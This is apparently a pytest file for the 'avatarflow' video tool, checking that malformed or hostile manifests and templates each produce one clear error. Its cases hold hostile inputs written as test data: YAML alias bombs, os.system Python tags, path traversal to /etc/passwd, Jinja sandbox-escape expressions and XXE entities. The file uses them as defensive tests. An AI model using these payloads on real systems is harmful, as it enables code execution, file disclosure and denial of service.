"""Bad input: every mistake is one clean, located line on stderr, exit code 1, no traceback.

Each case writes its own files over a small course that already has a recorded state
and rendered outputs, runs ``validate`` and ``plan`` in-process, and checks that the
error names the file (and the line and key path where it has them) and that nothing on
disk changed.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import textwrap
from dataclasses import dataclass
from pathlib import Path

import pytest

from avatarflow import crashlog

from .helpers import Result, course, make_tree, record_all, render_file, run_cli

BOMB = """\
version: 1
name: demo
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
"""


def header(*defaults: str) -> str:
    """A manifest up to ``videos:``, with these lines in ``defaults``."""
    lines = "".join(f"  {line}\n" for line in defaults)
    return f"version: 1\nname: demo\ndefaults:\n{lines}videos:\n"


TEMPLATE_LINE = "template: narration.ssml.j2"
VOICE_LINE = "voice: en-US-AvaMultilingualNeural"
AVATAR_LINE = "avatar: {character: lisa, style: graceful-sitting}"
VARS_LINE = "vars: {title: Intro}"
COURSE = header(TEMPLATE_LINE, VOICE_LINE, AVATAR_LINE, VARS_LINE)
NO_VARS = header(TEMPLATE_LINE, VOICE_LINE, AVATAR_LINE)
BARE = "version: 1\nname: demo\nvideos:\n"  # no defaults
NO_AVATAR = header(TEMPLATE_LINE, VOICE_LINE, VARS_LINE)
NO_TEMPLATE = header(VOICE_LINE, AVATAR_LINE)
# The course of the narration-file cases: video a reads scripts/a.txt (line 10).
TEXT_FILE_COURSE = COURSE + "  - id: a\n    text_file: scripts/a.txt\n"


def merge_bomb(levels: int) -> str:
    """``vars`` whose ``<<`` merge keys each merge the level below twice (2**levels if
    expanded naively), followed by a typo on line ``levels + 7``."""
    lines = ["version: 1", "name: demo", "defaults:", "  vars:", "    l0: &l0 {a: 1, b: 2}"]
    lines += [
        f"    l{i}: &l{i} {{<<: [*l{i - 1}, *l{i - 1}], k{i}: {i}}}" for i in range(1, levels)
    ]
    lines += ["videos:", "  - id: a", "    txt: Hi"]
    return "\n".join(lines) + "\n"


@dataclass(frozen=True)
class Link:
    """A symbolic link to ``target`` (relative to the course folder)."""

    target: str


@dataclass(frozen=True)
class Fifo:
    """A named pipe: reading it would block until someone writes."""


@dataclass(frozen=True)
class Bad:
    """Files written over a valid, recorded course, and the error they must cause."""

    files: dict[str, str | bytes | Link | Fifo]
    error: str  # the start of the message after "Error: " (file:line: key: message)
    also: tuple[str, ...] = ()  # fragments that must appear in the message as well
    manifest: str = "course.yaml"


def course_yaml(header: str, videos: str) -> str:
    """``header`` (up to ``videos:``, so errors keep their line numbers) and the videos
    below it, written as dedented YAML."""
    return header + textwrap.indent(textwrap.dedent(videos), "  ")


def narration_template(*lines: str, inline: str | None = None) -> str:
    """The course's narration template with other contents in its voice element: on lines
    of their own from line 3 on, or ``inline`` on line 2 with the voice element."""
    voice = '  <voice name="{{ video.voice }}">'
    if inline is not None:
        voice += f"{inline}</voice>\n"
    else:
        voice += "\n" + "".join(f"    {line}\n" for line in lines) + "  </voice>\n"
    return f'<speak version="1.0" xml:lang="en-US">\n{voice}</speak>\n'


def bad(files: dict[str, str | bytes | Link | Fifo], error: str, *also: str) -> Bad:
    return Bad(files, error, also)


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file and link under ``root`` with its bytes (or its link target)."""
    found: dict[str, bytes] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                found[rel] = b"-> " + os.readlink(path).encode()
            elif path.is_file():
                found[rel] = path.read_bytes()
            else:
                found[rel + "/"] = b""
    return found


def assert_one_error(result: Result, error: str, also: tuple[str, ...] = ()) -> str:
    """Exit 1, nothing on stdout, exactly one ``Error: `` line on stderr, no traceback."""
    assert "Traceback" not in result.out + result.err
    assert "Internal error" not in result.err
    assert result.code == 1, result
    assert result.out == ""
    lines = result.err.splitlines()
    assert len(lines) == 1 and result.err.endswith("\n"), result.err
    line = lines[0]
    assert line.startswith("Error: " + error), f"\n{line}\n  does not start with\nError: {error}"
    for fragment in also:
        assert fragment in line, f"{fragment!r} not in {line!r}"
    return line


def write(root: Path, files: dict[str, str | bytes | Link | Fifo]) -> None:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link | Fifo):
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path)
            path.unlink(missing_ok=True)
            if isinstance(content, Fifo):
                os.mkfifo(path)
            else:
                path.symlink_to(content.target)
        else:
            make_tree(root, {rel: content})


# -- the manifest ----------------------------------------------------------------------

MANIFEST_CASES: dict[str, Bad] = {
    "yaml-bad-indentation": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            defaults:
              template: narration.ssml.j2
               voice: en-US-AvaMultilingualNeural
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:5: `voice` is indented more than `template` on line 4 (3 spaces; it has 2)",
    ),
    "yaml-unclosed-quote": bad(
        {
            "course.yaml": """\
            version: 1
            name: "demo
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:4: invalid YAML: found unexpected end of stream",
    ),
    "yaml-tab-indentation": bad(
        {"course.yaml": "version: 1\nname: demo\ndefaults:\n\ttemplate: x.j2\n"},
        "course.yaml:4: a tab is used for indentation; YAML indents with spaces only",
    ),
    "yaml-control-character": bad(
        {"course.yaml": "version: 1\nname: demo\ndescription: bell \x07\n"},
        "course.yaml:3: invalid YAML: unacceptable character #x0007",
    ),
    "yaml-python-tag-on-sequence": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            videos: !!python/object/apply:os.system ["true"]
            """
        },
        "course.yaml:3: videos: unsupported YAML tag '!!python/object/apply:os.system'",
    ),
    "yaml-python-tag-on-scalar": bad(
        {
            "course.yaml": """\
            version: 1
            name: !!python/name:os.system demo
            """
        },
        "course.yaml:2: name: invalid YAML value: ",
        "python/name:os.system",
    ),
    "yaml-bad-int-tag": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            defaults:
              ttl_hours: !!int lots
            """
        },
        "course.yaml:4: defaults.ttl_hours: invalid YAML value 'lots': ",
        "lots",
    ),
    "yaml-mapping-as-key": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            ? {a: 1}
            : b
            """
        },
        "course.yaml:3: mapping keys must be plain strings",
    ),
    "empty-file": bad({"course.yaml": ""}, "course.yaml:1: the manifest must be a YAML mapping"),
    "only-comments": bad(
        {"course.yaml": "# nothing yet\n"}, "course.yaml:1: the manifest must be a YAML mapping"
    ),
    "top-level-list": bad(
        {
            "course.yaml": """\
            - id: a
              text: Hi
            """
        },
        "course.yaml:1: the manifest must be a YAML mapping",
    ),
    "unknown-top-level-key": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            output_dri: build/videos
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:3: output_dri: unknown key (did you mean 'output_dir'?)",
    ),
    "unknown-nested-key": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: Hi
              - id: b
                text: Hello
                avatar:
                  stlye: casual-sitting
            """,
            )
        },
        "course.yaml:14: videos[1].avatar.stlye: unknown key (did you mean 'style'?)",
    ),
    "unknown-key-without-near-match": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: a
                text: Hi
                zzz: 1
            """,
            )
        },
        "course.yaml:6: videos[0].zzz: unknown key; allowed: ",
        "text_file",
    ),
    "wrong-type-ttl": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            defaults:
              ttl_hours: lots
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:4: defaults.ttl_hours: Input should be a valid integer",
    ),
    "ttl-over-744": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: a
                text: Hi
                ttl_hours: 745
            """,
            )
        },
        "course.yaml:6: videos[0].ttl_hours: Input should be less than or equal to 744",
    ),
    "videos-not-a-list": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            videos: {id: a}
            """
        },
        "course.yaml:3: videos: Input should be a valid list",
    ),
    "version-2": bad(
        {
            "course.yaml": """\
            version: 2
            name: demo
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:1: version: unsupported manifest version 2; this avatarflow reads version 1",
    ),
    "missing-name": bad(
        {
            "course.yaml": """\
            version: 1
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:1: name: required key is missing",
    ),
    "duplicate-video-id": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: Hi
              - id: a
                text: Hi again
            """,
            )
        },
        "course.yaml:11: videos[1].id: duplicate video id 'a' (first used at videos[0])",
    ),
    "duplicate-yaml-key": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: a
                text: Hi
                text: Hello
            """,
            )
        },
        "course.yaml:6: videos[0].text: duplicate key",
    ),
    "id-with-slash": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: a/b
                text: Hi
            """,
            )
        },
        "course.yaml:4: videos[0].id: id 'a/b' may only use letters, digits, '.', '_' and '-'",
    ),
    "id-path-traversal": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: ../../etc
                text: Hi
            """,
            )
        },
        "course.yaml:4: videos[0].id: id '../../etc' may only use letters, digits",
    ),
    "id-with-space": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: my video
                text: Hi
            """,
            )
        },
        "course.yaml:4: videos[0].id: id 'my video' may only use letters, digits",
    ),
    "id-is-a-number": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: 12
                text: Hi
            """,
            )
        },
        "course.yaml:4: videos[0].id: Input should be a valid string (YAML read a number or a "
        "boolean here: put the value in quotes)",
    ),
    "missing-text": bad(
        {
            "course.yaml": course_yaml(
                NO_VARS,
                """\
              - id: a
                vars: {title: Intro}
            """,
            )
        },
        "course.yaml:8: videos[0]: needs one of 'text', 'text_file' or 'ssml'",
    ),
    "two-text-sources": bad(
        {
            "course.yaml": course_yaml(
                NO_VARS,
                """\
              - id: a
                text: Hi
                text_file: scripts/a.txt
            """,
            ),
            "scripts/a.txt": "Hi from a file.",
        },
        "course.yaml:8: videos[0]: give only one of 'text', 'text_file', 'ssml'",
    ),
    "missing-text-file": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text_file: scripts/nope.txt
            """,
            )
        },
        "course.yaml:10: videos[0].text_file: text file 'scripts/nope.txt' not found",
    ),
    "text-file-escapes-folder": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text_file: ../../etc/passwd
            """,
            )
        },
        "course.yaml:10: videos[0].text_file: text_file '../../etc/passwd' points outside",
    ),
    "text-file-symlink-outside": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text_file: scripts/a.txt
            """,
            ),
            "../secret.txt": "outside the course",
            "scripts/a.txt": Link("../../secret.txt"),
        },
        "course.yaml:10: videos[0].text_file: text_file 'scripts/a.txt' points outside",
    ),
    "text-file-binary": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text_file: scripts/a.png
            """,
            ),
            "scripts/a.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe",
        },
        "course.yaml:10: videos[0].text_file: text file 'scripts/a.png' is not UTF-8 text",
    ),
    "text-file-with-nul": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text_file: scripts/a.txt
            """,
            ),
            "scripts/a.txt": b"Hello\x00world",
        },
        "course.yaml:10: videos[0].text_file: text file 'scripts/a.txt' is binary",
    ),
    "text-file-nul-in-name": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text_file: "scripts/a\\0.txt"
            """,
            )
        },
        "course.yaml:10: videos[0].text_file: contains a NUL character",
    ),
    "manifest-not-utf8": bad(
        {"course.yaml": "version: 1\nname: caf\xe9\n".encode("latin-1")},
        "course.yaml:2: not UTF-8 text (byte 20); is it a binary file?",
    ),
    "manifest-with-nul": bad(
        {"course.yaml": b"version: 1\nname: demo\x00\n"},
        "course.yaml:2: file contains NUL bytes; is it a binary file?",
    ),
    "manifest-over-64mb": bad(
        {"course.yaml": "version: 1\nname: demo\n# " + "x" * (64 * 1024 * 1024) + "\n"},
        "course.yaml: file is larger than 64 MB",
    ),
    "billion-laughs": bad(
        {"course.yaml": BOMB},
        "course.yaml:",
        "more than 100000 nodes (alias bomb?)",
    ),
    "merge-key-bomb": bad(
        {"course.yaml": merge_bomb(40)},
        "course.yaml:47: videos[0].txt: unknown key (did you mean 'text'?)",
    ),
    "typo-in-required-key": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            vidoes: [{id: a, text: Hi}]
            """
        },
        "course.yaml:3: vidoes: unknown key (did you mean 'videos'?)",
    ),
    "merge-key-into-itself": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            defaults: &d
              <<: *d
            """
        },
        "course.yaml:3: defaults: '<<' merges a mapping into itself",
    ),
    "recursive-alias": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            defaults:
              vars: &loop {self: *loop}
            """
        },
        "course.yaml:4: defaults.vars.self.self.self",
        "nested more than 64 levels deep (recursive alias?)",
    ),
    "deeply-nested-flow": bad(
        {
            "course.yaml": "version: 1\nname: demo\ndefaults:\n  vars: {x: "
            + "[" * 5000
            + "]" * 5000
            + "}\n"
        },
        "course.yaml:4: invalid YAML: nested more than 64 levels deep",
    ),
    "deeply-nested-block": bad(
        {
            "course.yaml": "version: 1\nname: demo\nvars:\n"
            + "".join(" " * i + f"k{i}:\n" for i in range(1, 400))
        },
        "course.yaml:66: invalid YAML: nested more than 64 levels deep",
    ),
    # -- templates --------------------------------------------------------------------
    "unknown-template": bad(
        {
            "course.yaml": course_yaml(
                header(VOICE_LINE, AVATAR_LINE, VARS_LINE),
                """\
              - id: a
                template: naration.ssml.j2
                text: Hi
            """,
            ),
            "templates/outro.ssml.j2": "<speak/>",
        },
        "course.yaml:9: videos[0].template: unknown template 'naration.ssml.j2' "
        "(looked in templates); available: narration.ssml.j2, outro.ssml.j2",
    ),
    "undefined-template-variable": bad(
        {"templates/narration.ssml.j2": narration_template("<s>{{ titel }}.</s>", "{{ text }}")},
        "templates/narration.ssml.j2:3: undefined variable: 'titel' is undefined "
        "(did you mean 'title'?) (video a)",
    ),
    "template-syntax-error": bad(
        {
            "templates/narration.ssml.j2": narration_template(
                "<s>{{ title }}.</s>{% endfor %}", "{{ text }}"
            )
        },
        "templates/narration.ssml.j2:3: template syntax error: Encountered unknown tag 'endfor'.",
    ),
    "template-runtime-error": bad(
        {
            "templates/narration.ssml.j2": narration_template(
                "<s>{{ title }} {{ 1 // 0 }}.</s>", "{{ text }}"
            )
        },
        "templates/narration.ssml.j2:3: ZeroDivisionError: integer division or modulo by zero "
        "(video a)",
    ),
    "template-not-utf8": bad(
        {"templates/narration.ssml.j2": b"<speak>caf\xe9 {{ text }}</speak>"},
        "templates/narration.ssml.j2: not UTF-8 text",
    ),
    "template-sandbox-mro": bad(
        {
            "templates/narration.ssml.j2": narration_template(
                inline="{{ ''.__class__.__mro__ }} {{ text }}"
            )
        },
        "templates/narration.ssml.j2:2: not allowed in templates: ",
        "'__class__'",
    ),
    "template-sandbox-globals": bad(
        {
            "templates/narration.ssml.j2": narration_template(
                "{{ cycler.__init__.__globals__ }} {{ text }}"
            )
        },
        "templates/narration.ssml.j2:3: not allowed in templates: ",
        "'__init__'",
    ),
    "template-include-outside": bad(
        {
            "templates/narration.ssml.j2": narration_template(
                "{% include '../../etc/passwd' %} {{ text }}"
            )
        },
        "templates/narration.ssml.j2:3: template '../../etc/passwd' not found (video a)",
    ),
    "narration-sandbox-mro": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: "{{ ''.__class__.__mro__ }}"
            """,
            )
        },
        "course.yaml:10: videos[0].text: in narration: not allowed in templates: ",
        "'__class__'",
    ),
    "narration-sandbox-globals": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: "{{ cycler.__init__.__globals__ }}"
            """,
            )
        },
        "course.yaml:10: videos[0].text: in narration: not allowed in templates: ",
        "'__init__'",
    ),
    "narration-include": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: "{% include '../../etc/passwd' %}"
            """,
            )
        },
        "course.yaml:10: videos[0].text: in narration: template '../../etc/passwd' not found",
    ),
    "narration-undefined": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: Welcome to {{ corse }}.
            """,
            )
        },
        "course.yaml:10: videos[0].text: in narration: undefined variable: 'corse' is undefined",
    ),
    "narration-runtime-error": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: "{{ title + 1 }}"
            """,
            )
        },
        "course.yaml:10: videos[0].text: in narration: TypeError: can only concatenate str",
    ),
    "narration-endless-recursion": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"
            """,
            )
        },
        "course.yaml:10: videos[0].text: in narration: RecursionError: ",
    ),
    # -- SSML ---------------------------------------------------------------------------
    "ssml-not-well-formed": bad(
        {
            "course.yaml": course_yaml(
                NO_TEMPLATE,
                """\
              - id: a
                ssml: |
                  <speak version='1.0' xml:lang='en-US'>
                    <voice name='en-US-AvaMultilingualNeural'>Hi</voce>
                  </speak>
            """,
            )
        },
        "course.yaml:8: videos[0].ssml: SSML is not well-formed XML: mismatched tag "
        "(line 2, column 48 of the inline ssml)",
    ),
    "ssml-root-not-speak": bad(
        {
            "course.yaml": course_yaml(
                NO_TEMPLATE,
                """\
              - id: a
                ssml: <voice name='en-US-AvaMultilingualNeural'>Hi</voice>
            """,
            )
        },
        "course.yaml:8: videos[0].ssml: SSML root element must be <speak>, not <voice>",
    ),
    "ssml-xxe": bad(
        {
            "course.yaml": course_yaml(
                NO_TEMPLATE,
                """\
              - id: a
                ssml: |
                  <?xml version="1.0"?>
                  <!DOCTYPE speak [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                  <speak version='1.0' xml:lang='en-US'>&xxe;</speak>
            """,
            )
        },
        "course.yaml:8: videos[0].ssml: SSML must not contain a DOCTYPE or ENTITY declaration",
    ),
    "template-renders-bad-ssml": bad(
        {
            "templates/narration.ssml.j2": """\
            <speak version="1.0" xml:lang="en-US">
              <voice name="{{ video.voice }}">{{ text }}
            </speak>
            """
        },
        "templates/narration.ssml.j2: SSML is not well-formed XML: mismatched tag "
        "(line 3, column 2 of the SSML rendered for video a)",
    ),
    # -- gestures and avatars -------------------------------------------------------------
    "unknown-gesture": bad(
        {
            "course.yaml": course_yaml(
                header(VOICE_LINE),
                """\
              - id: a
                avatar: {character: harry, style: business}
                ssml: |
                  <speak version='1.0' xml:lang='en-US'>
                    <bookmark mark='gesture.thank-you'/>Thanks.
                  </speak>
            """,
            )
        },
        "course.yaml:8: videos[0].ssml: unknown gesture 'thank-you' for harry/business "
        "(did you mean 'thanks'?); valid: 123, calm-down, come-on, five-star-reviews, good, "
        "hello, introduce, invite, thanks, welcome",
    ),
    "gesture-on-style-without-gestures": bad(
        {
            "course.yaml": course_yaml(
                header(VOICE_LINE),
                """\
              - id: a
                avatar: {character: lisa, style: graceful-standing}
                ssml: "<speak version='1.0'><bookmark mark='gesture.hello'/>Hi</speak>"
            """,
            )
        },
        "course.yaml:8: videos[0].ssml: gesture 'hello': lisa/graceful-standing has no gestures",
    ),
    "transparent-background-mp4": bad(
        {
            "course.yaml": course_yaml(
                COURSE,
                """\
              - id: a
                text: Hi
                video: {format: mp4, codec: h264, background_color: transparent}
            """,
            )
        },
        "course.yaml:11: videos[0].video.background_color: a transparent background needs "
        "video.format: webm "
        "and video.codec: vp9",
    ),
    "codec-format-mismatch": bad(
        {
            "course.yaml": course_yaml(
                header(
                    TEMPLATE_LINE,
                    VOICE_LINE,
                    AVATAR_LINE,
                    "video: {format: mp4, codec: vp9}",
                    VARS_LINE,
                ),
                """\
              - id: a
                text: Hi
            """,
            )
        },
        "course.yaml:7: defaults.video.codec: codec vp9 cannot be used with format mp4 "
        "(use one of h264, hevc, av1)",
    ),
    "missing-style": bad(
        {
            "course.yaml": course_yaml(
                header(TEMPLATE_LINE, VOICE_LINE, "avatar: {character: lisa}", VARS_LINE),
                """\
              - id: a
                text: Hi
            """,
            )
        },
        "course.yaml:6: defaults.avatar: avatar.style is required for standard avatar lisa "
        "(one of casual-sitting, graceful-sitting, graceful-standing, technical-sitting, "
        "technical-standing)",
    ),
    "unknown-style": bad(
        {
            "course.yaml": course_yaml(
                NO_AVATAR,
                """\
              - id: a
                avatar: {character: lisa, style: graceful-sittin}
                text: Hi
            """,
            )
        },
        "course.yaml:9: videos[0].avatar.style: unknown style 'graceful-sittin' for lisa "
        "(did you mean 'graceful-sitting'?); valid: ",
    ),
    "unknown-standard-character": bad(
        {
            "course.yaml": course_yaml(
                NO_AVATAR,
                """\
              - id: a
                avatar: {character: lissa, style: graceful-sitting}
                text: Hi
            """,
            )
        },
        "course.yaml:9: videos[0].avatar.character: unknown standard avatar 'lissa' "
        "(did you mean 'lisa'?); "
        "set avatar.customized: true for a custom avatar",
    ),
    "missing-character": bad(
        {
            "course.yaml": course_yaml(
                NO_AVATAR,
                """\
              - id: a
                avatar: {style: graceful-sitting}
                text: Hi
            """,
            )
        },
        "course.yaml:8: videos[0]: avatar.character is required (set it here or in defaults)",
    ),
    "plain-text-without-voice": bad(
        {
            "course.yaml": course_yaml(
                header(AVATAR_LINE),
                """\
              - id: a
                input_kind: plain_text
                text: Hi
            """,
            )
        },
        "course.yaml:7: videos[0].input_kind: a plain_text video needs a voice",
    ),
    "photo-avatar-on-preview-api": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            service: {api_version: 3.1-preview1}
            defaults:
              voice: en-US-AvaMultilingualNeural
            videos:
              - id: a
                input_kind: plain_text
                avatar: {character: anika, photo_avatar_base_model: vasa-1}
                text: Hi
            """
        },
        "course.yaml:9: videos[0].avatar.photo_avatar_base_model: "
        "avatar.photo_avatar_base_model not supported by "
        "api_version 3.1-preview1",
    ),
    "payload-over-500kb": bad(
        {
            "course.yaml": course_yaml(
                NO_TEMPLATE,
                """\
              - id: a
                input_kind: plain_text
                text: "%s"
            """,
            )
            % ("blah " * 120_000)
        },
        "course.yaml:7: videos[0]: request body is 586 KB; the service accepts at most 500 KB",
    ),
    "output-dir-escapes-folder": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            output_dir: ../../tmp/x
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:3: output_dir: '../../tmp/x' points outside the manifest's folder",
    ),
    "state-dir-escapes-folder": bad(
        {
            "course.yaml": """\
            version: 1
            name: demo
            state_dir: /tmp/state
            videos: [{id: a, text: Hi}]
            """
        },
        "course.yaml:3: state_dir: '/tmp/state' points outside the manifest's folder",
    ),
    "invalid-background-colour": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: a
                text: Hi
                video: {background_color: white}
            """,
            )
        },
        "course.yaml:6: videos[0].video.background_color: 'white' is not a colour: "
        "use #RRGGBBAA (8 hex digits) or 'transparent'",
    ),
    "invalid-custom-voice-deployment": bad(
        {
            "course.yaml": course_yaml(
                BARE,
                """\
              - id: a
                text: Hi
                custom_voices: {MyVoice: "not a deployment id"}
            """,
            )
        },
        "course.yaml:6: videos[0].custom_voices: custom voice 'MyVoice': deployment id "
        "'not a deployment id' is not valid",
    ),
    "missing-manifest": Bad({}, "nope.yaml: manifest file not found", manifest="nope.yaml"),
    "manifest-is-a-directory": Bad(
        {"folder.yaml/keep": "x"}, "folder.yaml: cannot read manifest: ", manifest="folder.yaml"
    ),
    "manifest-is-a-fifo": Bad(
        {"pipe.yaml": Fifo()},
        "pipe.yaml: cannot read manifest: not a regular file",
        manifest="pipe.yaml",
    ),
    "manifest-binary-garbage": bad(
        {"course.yaml": bytes(range(256)) * 64},
        "course.yaml:2: not UTF-8 text (byte 128); is it a binary file?",
    ),
    "manifest-is-a-png": bad(
        {"course.yaml": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8},
        "course.yaml:1: not UTF-8 text (byte 0); is it a binary file?",
    ),
    "yaml-python-object-apply": bad(
        {"course.yaml": "version: 1\nname: !!python/object/apply:os.system ['echo pwned']\n"},
        "course.yaml:2: name: unsupported YAML tag '!!python/object/apply:os.system'",
    ),
    "text-file-huge": bad(
        {
            "course.yaml": TEXT_FILE_COURSE,
            "scripts/a.txt": "word " * 400_000,
        },
        "course.yaml:10: videos[0].text_file: text file 'scripts/a.txt' is larger than 500 KB, "
        "more than one request can carry",
    ),
    "text-file-is-a-fifo": bad(
        {
            "course.yaml": TEXT_FILE_COURSE,
            "scripts/a.txt": Fifo(),
        },
        "course.yaml:10: videos[0].text_file: cannot read text file 'scripts/a.txt': "
        "not a regular file",
    ),
    "text-file-is-a-directory": bad(
        {
            "course.yaml": TEXT_FILE_COURSE,
            "scripts/a.txt/keep": "x",
        },
        "course.yaml:10: videos[0].text_file: cannot read text file 'scripts/a.txt': ",
    ),
    "name-path-traversal": bad(
        {"course.yaml": "version: 1\nname: ../../evil\nvideos: [{id: a, text: Hi}]\n"},
        "course.yaml:2: name: '../../evil' may only use letters, digits, '.', '_' and '-'",
    ),
    "id-dot-dot": bad(
        {"course.yaml": "version: 1\nname: demo\nvideos: [{id: '..', text: Hi}]\n"},
        "course.yaml:3: videos[0].id: id '..' may only use letters, digits, '.', '_' and '-'",
    ),
    "draft-dir-escapes-folder": bad(
        {
            "course.yaml": "version: 1\nname: demo\ndraft_dir: ../drafts\n"
            "videos: [{id: a, text: Hi}]\n"
        },
        "course.yaml:3: draft_dir: '../drafts' points outside the manifest's folder",
    ),
    "output-dir-absolute": bad(
        {
            "course.yaml": "version: 1\nname: demo\noutput_dir: /tmp/out\n"
            "videos: [{id: a, text: Hi}]\n"
        },
        "course.yaml:3: output_dir: '/tmp/out' points outside the manifest's folder",
    ),
    "output-dir-symlinked-outside": bad(
        {"../elsewhere/keep": "x", "build/videos": Link("../../elsewhere")},
        "course.yaml:1: output_dir: 'build/videos' points outside the manifest's folder",
    ),
    "template-symlinked-outside": bad(
        {
            "../secret.j2": "<speak>secret</speak>",
            "templates/narration.ssml.j2": Link("../../secret.j2"),
        },
        "course.yaml:4: defaults.template: template 'narration.ssml.j2' points outside the "
        "templates folder",
    ),
    "template-is-a-fifo": bad(
        {"templates/narration.ssml.j2": Fifo()},
        "course.yaml:4: defaults.template: template 'narration.ssml.j2' is not a regular file",
    ),
    "template-huge": bad(
        {"templates/narration.ssml.j2": "<speak>{{ text }}</speak>" + " " * 600_000},
        "course.yaml:4: defaults.template: template 'narration.ssml.j2' is larger than 500 KB",
    ),
    "template-include-a-fifo": bad(
        {
            "templates/pipe.j2": Fifo(),
            "templates/narration.ssml.j2": narration_template(
                inline="{% include 'pipe.j2' %} {{ text }}"
            ),
        },
        "templates/narration.ssml.j2:2: template 'pipe.j2' is not a regular file (video a)",
    ),
    "template-include-symlinked-outside": bad(
        {
            "../secret.j2": "secret",
            "templates/leak.j2": Link("../../secret.j2"),
            "templates/narration.ssml.j2": narration_template(
                inline="{% include 'leak.j2' %} {{ text }}"
            ),
        },
        "templates/narration.ssml.j2:2: template 'leak.j2' points outside the templates folder",
    ),
    "template-extends-absolute": bad(
        {"templates/narration.ssml.j2": "{% extends '/etc/passwd' %}"},
        "templates/narration.ssml.j2:1: template '/etc/passwd' not found (video a)",
    ),
    "template-import-outside": bad(
        {
            "templates/narration.ssml.j2": "{% import '../course.yaml' as m %}"
            "<speak version='1.0' xml:lang='en-US'>{{ text }}</speak>"
        },
        "templates/narration.ssml.j2:1: template '../course.yaml' not found (video a)",
    ),
    "template-sandbox-format-string": bad(
        {
            "templates/narration.ssml.j2": "<speak version='1.0' xml:lang='en-US'>"
            "{{ '{0.__class__.__mro__}'.format(text) }}{{ text }}</speak>"
        },
        "templates/narration.ssml.j2:1: not allowed in templates: ",
        "'__class__'",
    ),
    "template-sandbox-self-context": bad(
        {
            "templates/narration.ssml.j2": "<speak version='1.0' xml:lang='en-US'>"
            "{{ self._TemplateReference__context }}{{ text }}</speak>"
        },
        "templates/narration.ssml.j2:1: not allowed in templates: ",
        "'_TemplateReference__context'",
    ),
    "template-sandbox-attr-filter": bad(
        {
            "templates/narration.ssml.j2": "<speak version='1.0' xml:lang='en-US'>"
            "{{ text|attr('__class__') }}{{ text }}</speak>"
        },
        "templates/narration.ssml.j2:1: not allowed in templates: ",
        "'__class__'",
    ),
    "template-renders-xxe": bad(
        {
            "templates/narration.ssml.j2": "<!DOCTYPE speak [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
            "<speak version='1.0' xml:lang='en-US'>&x;{{ text }}</speak>"
        },
        "templates/narration.ssml.j2: SSML must not contain a DOCTYPE or ENTITY declaration",
    ),
    "ssml-xxe-parameter-entity": bad(
        {
            "course.yaml": course_yaml(
                NO_TEMPLATE,
                """\
              - id: a
                ssml: |
